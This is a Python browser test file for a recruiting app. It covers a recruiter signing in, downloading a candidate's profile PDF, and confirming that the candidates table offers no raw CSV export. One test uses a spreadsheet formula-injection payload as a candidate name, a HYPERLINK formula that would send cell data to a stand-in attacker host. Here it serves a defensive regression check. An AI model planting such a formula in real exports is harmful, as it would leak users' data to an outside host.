"""A recruiter signs in through the real form, opens a profile and downloads its PDF."""

from __future__ import annotations

import re
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest

from assessment.access.accounts import add_user
from assessment.demo import seed_demo
from assessment.recruiting.invitations import InvitationRequest, invite_candidates
from assessment.recruiting.overview import candidate_overview
from items import load_bank
from tests.browser.candidate import wait
from tests.browser.conftest import Server
from tests.browser.staff import sign_in as staff_sign_in

pytestmark = [pytest.mark.browser, pytest.mark.slow]
PASSWORD = "recruiter-password-1"


@pytest.fixture(scope="module")
def recruiter(server: Server) -> str:
    """A recruiter account and a few demo candidates on the running server's database."""
    add_user(server.store, "rob", PASSWORD, "recruiter", actor="test")
    seed_demo(server.store, load_bank(), 6, seed=11)
    return "rob"


def sign_in(page: Any, server: Server, username: str) -> None:
    staff_sign_in(page, server.url, username, PASSWORD)
    page.get_by_role("heading", name="Candidates").wait_for()  # the recruiter's home page


def open_candidates_tab(page: Any) -> None:
    """Open the recruiter page and its Candidates tab."""
    page.get_by_role("link", name="Candidates").click()
    page.get_by_role("tab", name="Candidates").wait_for(timeout=30_000)
    wait(page)
    page.get_by_role("tab", name="Candidates").click()
    wait(page)


def test_the_candidates_table_offers_no_csv_download_that_skips_neutralising(
    server: Server, browser: Any, recruiter: str
) -> None:
    """The table's own toolbar used to offer "Download as CSV", which wrote a typed name such
    as =HYPERLINK(…) raw, unaudited and without the session check; only the Export tab's
    neutralised, audited buttons may write files."""
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    invite_candidates(
        server.store, [InvitationRequest(hostile, "hostile@example.com")], actor="test"
    )
    page = browser.new_page(viewport={"width": 1280, "height": 1000})
    sign_in(page, server, recruiter)
    open_candidates_tab(page)
    table = page.get_by_test_id("stDataFrame")
    table.wait_for(timeout=30_000)
    table.hover()
    toolbar = page.get_by_test_id("stElementToolbar")
    toolbar.get_by_role("button", name="Search").wait_for(timeout=30_000)
    assert toolbar.get_by_role("button", name="Download as CSV").count() == 0
    page.close()


@pytest.mark.skipif(shutil.which("pdftotext") is None, reason="pdftotext is not installed")
def test_recruiter_downloads_a_profile_pdf(
    server: Server, browser: Any, recruiter: str, tmp_path: Path
) -> None:
    completed = candidate_overview(server.store, status="completed")
    assert completed, "the demo seed has completed candidates"
    page = browser.new_page(viewport={"width": 1280, "height": 1000}, accept_downloads=True)
    sign_in(page, server, recruiter)
    open_candidates_tab(page)
    page.get_by_test_id("stMetric").filter(has_text="Completed").wait_for(timeout=30_000)
    page.get_by_test_id("stDataFrame").wait_for(timeout=30_000)
    page.get_by_role("tab", name="Profile").click()
    wait(page)
    chooser = page.get_by_test_id("stSelectbox").filter(has_text="completed tests only")
    chooser.wait_for(timeout=30_000)
    page.get_by_text("Suggested interview questions").wait_for(timeout=30_000)
    shown = page.get_by_test_id("stCaptionContainer").filter(has_text="tested").inner_text()
    candidate_id = next(row.candidate_id for row in completed if row.candidate_id in shown)
    page.get_by_text("English", exact=True).click()
    wait(page)
    with page.expect_download(timeout=60_000) as download_info:
        page.get_by_role("button", name=re.compile("Profile PDF")).click()
    download = download_info.value
    assert download.suggested_filename == f"{candidate_id}.pdf"
    target = tmp_path / download.suggested_filename
    download.save_as(target)
    assert target.read_bytes().startswith(b"%PDF-")
    text = subprocess.run(
        ["pdftotext", "-layout", "-enc", "UTF-8", str(target), "-"],
        capture_output=True, check=True, text=True, timeout=60,
    ).stdout  # fmt: skip
    assert candidate_id in text
    assert "T" in text
    assert "Candidate profile" in text
    audit = server.store.audit_entries("report.profile")[0]
    assert (audit.actor, audit.target) == (recruiter, candidate_id)
    page.close()
